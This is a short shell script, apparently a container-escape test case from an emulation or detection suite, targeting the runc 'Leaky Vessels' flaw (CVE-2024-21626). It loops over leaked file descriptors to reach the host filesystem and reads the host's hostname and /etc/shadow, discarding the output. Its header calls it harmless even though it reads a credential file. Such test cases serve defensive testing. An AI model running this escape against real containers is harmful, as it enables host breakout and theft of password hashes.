#!/bin/sh
# case: T1611-leaky-vessel-fd
# technique: Escape: working directory and host files sought through /proc/self/fd
# source: CVE-2024-21626 leaky vessels
# needs: sh
# expect: escape file
# where: container
# image: busybox debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
i=3; while [ $i -lt 15 ]; do (cd /proc/self/fd/$i/../../.. && cat etc/hostname) >/dev/null 2>&1; cat /proc/self/fd/$i/../../../../etc/shadow >/dev/null 2>&1; i=$((i+1)); done; true
exit 0
